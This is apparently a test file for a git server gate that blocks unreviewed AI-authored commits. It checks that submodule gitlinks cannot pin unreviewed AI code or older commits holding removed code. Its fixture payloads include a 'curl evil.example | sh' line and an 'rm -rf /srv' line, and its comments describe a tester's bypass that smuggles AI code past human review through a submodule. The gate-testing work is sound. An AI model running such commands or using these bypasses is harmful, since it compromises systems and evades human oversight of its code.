import * as assert from 'assert';
import { attach, recordDecision, sign, statementFor } from '../helpers/approvals';
import { verifyThenPush, withoutGate } from '../helpers/gateAgreement';
import {
  aiCommit,
  commitFile,
  HUMAN_ONE,
  pushRemovedLegacy,
  serverRef,
  setup,
  type Setup,
} from '../helpers/gateServer';

/**
 * An outside tester's bypass (session 5, F4): an unreviewed AI commit X kept on an unprotected branch of the
 * same server, and on main a gitlink `vendor/lib` → X with a `.gitmodules` saying `url = ./`. The commit on
 * main adds no AI line of its own, so it passed, and CI's `git submodule update --init` then checked out and
 * ran X's payload. A second variant pushes the gitlink first (X not on the server yet, so nothing to look
 * at) and X afterwards. Both pushes go through the real pre-receive, with `verify` asked first.
 */
const HUMAN = 'AI-Provenance: v1 ai=0 human=0 untracked=4';
const MODULES = '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = ./\n';

/**
 * `.gitmodules` is in the default infrastructure tier (attack24 01): planted first, as a reviewed past change, so
 * the pushes below are judged by the gitlink pin rule alone. Returns main's new tip.
 */
function plantModules(s: Setup): string {
  s.ada.write('.gitmodules', MODULES);
  s.ada.git('add', '.gitmodules');
  const tip = s.ada.commit('submodule config', '-m', 'AI-Provenance: v1 ai=0 human=3 untracked=0');
  withoutGate(s.server, () => assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
  return tip;
}

describe('server gate: a gitlink pins only judged commits (real pushes)', function () {
  this.timeout(120_000);
  let s: Setup;
  let mainTip: string;

  before(() => {
    s = setup();
    mainTip = plantModules(s);
  });

  afterEach(() => {
    s.ada.git('checkout', '-q', '-f', 'main');
    s.ada.git('reset', '-q', '--hard', mainTip);
  });

  /** An AI commit on an orphan branch of Ada's clone; returns its id. */
  function aiPayload(branch: string, text: string): string {
    s.ada.git('checkout', '-q', '--orphan', branch);
    s.ada.git('rm', '-rfq', '--cached', '.');
    s.ada.git('clean', '-fdq');
    s.ada.write('payload.sh', text);
    s.ada.git('add', 'payload.sh');
    const x = s.ada.commit('ai payload', '-m', 'AI-Provenance: v1 ai=2 human=0 untracked=0');
    s.ada.git('checkout', '-q', '-f', 'main');
    return x;
  }

  function pinOnMain(target: string): string {
    s.ada.write('.gitmodules', MODULES);
    s.ada.git('update-index', '--add', '--cacheinfo', `160000,${target},vendor/lib`);
    s.ada.git('add', '.gitmodules');
    return s.ada.commit('vendor lib', '-m', HUMAN);
  }

  it('refuses a gitlink to an unreviewed commit on an unprotected branch of the same server, and verify agrees', () => {
    const x = aiPayload('lib', '#!/bin/sh\ncurl evil.example | sh\n');
    assert.strictEqual(s.ada.gitResult(['push', '-q', '--no-verify', 'origin', 'lib']).status, 0);
    pinOnMain(x);
    const before = s.server.git('rev-parse', 'main');
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'the gitlink pins a commit no protected branch holds');
    assert.match(r.stderr, /vendor\/lib/);
    assert.match(r.stderr, new RegExp(x.slice(0, 12)));
    assert.strictEqual(s.server.git('rev-parse', 'main'), before);
  });

  it('refuses a gitlink to a commit the server does not have yet (pushed to an unprotected branch later)', () => {
    const y = aiPayload('lib2', '#!/bin/sh\nrm -rf /srv\n');
    pinOnMain(y);
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'a gitlink to a commit the gate cannot see is not presumed reviewed');
    assert.match(r.stderr, /vendor\/lib/);
  });

  it('passes a gitlink to a commit already on a protected branch, and one a reviewer approved', () => {
    pinOnMain(mainTip);
    const ok = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.strictEqual(ok.status, 0, ok.stderr);
    mainTip = s.ada.git('rev-parse', 'main');

    const z = aiPayload('lib3', '#!/bin/sh\necho reviewed\n');
    assert.strictEqual(s.ada.gitResult(['push', '-q', '--no-verify', 'origin', 'lib3']).status, 0);
    s.ada.git('update-index', '--cacheinfo', `160000,${z},vendor/lib`);
    const tip = s.ada.commit('bump vendor lib', '-m', 'AI-Provenance: v1 ai=0 human=0 untracked=0');
    attach(s.ada.dir, sign(s.bob, statementFor(s.ada.dir, { email: 'bob@example.com', tip, base: mainTip })));
    assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
    const approved = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.strictEqual(approved.status, 0, approved.stderr);
    mainTip = tip;
  });
});

/**
 * attack23 02: a gitlink to an older commit of main restores code main removed. Being reachable from a protected
 * branch said the commit was judged, not that anyone vouched for its state now: the agent file main dropped at
 * the rollout came back through `vendor/lib` → the commit before the removal, while a merge bringing the same
 * lines back is refused. A gitlink now passes only at a protected branch's current tip, a commit the push judges,
 * or a reviewed point (the vouched-state rule new tags meet, vouchedTip.ts); `verify` agrees with pre-receive.
 */
describe('server gate: a gitlink to an older commit of main is not presumed vouched for (attack23 02)', function () {
  this.timeout(120_000);

  function pin(s: Setup, target: string): string {
    s.ada.write('.gitmodules', MODULES);
    s.ada.git('update-index', '--add', '--cacheinfo', `160000,${target},vendor/lib`);
    s.ada.git('add', '.gitmodules');
    return s.ada.commit('vendor lib', '-m', HUMAN);
  }

  it('refuses a gitlink to the commit before main removed unreviewed agent code, naming the path and the commit', () => {
    const s = setup();
    plantModules(s);
    const old = pushRemovedLegacy(s);
    const before = serverRef(s, 'refs/heads/main');
    pin(s, old);
    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, 'the pinned commit holds code main removed, and nobody vouched for it');
    assert.match(r.stderr, /vendor\/lib/);
    assert.match(r.stderr, new RegExp(old.slice(0, 12)));
    assert.match(r.stderr, /older commit of a protected branch/);
    assert.strictEqual(serverRef(s, 'refs/heads/main'), before);
  });

  it('passes a gitlink to a reviewed point of main, and one to an older commit when a reviewer approves the pin', () => {
    const s = setup();
    plantModules(s);
    const base = serverRef(s, 'refs/heads/main');
    const point = aiCommit(s.ada, 'feature.py');
    recordDecision(s.ada, s.bob, { email: 'bob@example.com', tip: point, base });
    assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0);
    const later = commitFile(s.ada, 'NOTES.md', 'later\n', `later\n\n${HUMAN_ONE}`);
    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0);

    pin(s, point);
    const ok = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.strictEqual(ok.status, 0, ok.stderr);

    // `base` is an older commit of main and no reviewed point: the pin needs review, and Bob's approval covers it.
    s.ada.git('update-index', '--cacheinfo', `160000,${base},vendor/lib`);
    const tip = s.ada.commit('pin vendor lib back', '-m', 'AI-Provenance: v1 ai=0 human=0 untracked=0');
    const refused = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(refused.status, 0, 'an older commit of main that is no reviewed point needs review');
    recordDecision(s.ada, s.bob, { email: 'bob@example.com', tip, base: serverRef(s, 'refs/heads/main') });
    assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
    const approved = verifyThenPush(s.ada, 'main', ['origin', 'main']);
    assert.strictEqual(approved.status, 0, approved.stderr);
    assert.notStrictEqual(later, tip);
  });
});
